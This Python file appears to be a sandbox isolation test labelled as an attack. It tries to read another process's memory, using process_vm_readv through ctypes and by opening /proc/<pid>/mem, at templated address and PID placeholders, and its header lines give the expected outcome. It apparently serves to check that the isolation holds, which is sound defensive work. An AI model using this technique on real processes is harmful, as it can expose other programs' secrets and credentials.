# attack: reads the memory of another process of the same user's, by call and by file
# exercise: first-network
# expect: passed
# needs: processes
# tiers: all
import ctypes


class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


address = int("{address}")
libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(4096)
mine, theirs = Span(ctypes.addressof(buffer), 4096), Span(address, 4096)
libc.process_vm_readv(int("{decoy}"), ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
print(buffer.raw)
try:
    with open("/proc/{decoy}/mem", "rb", buffering=0) as memory:
        memory.seek(address)
        print(memory.read(4096))
except OSError as error:
    print(error)
# honest
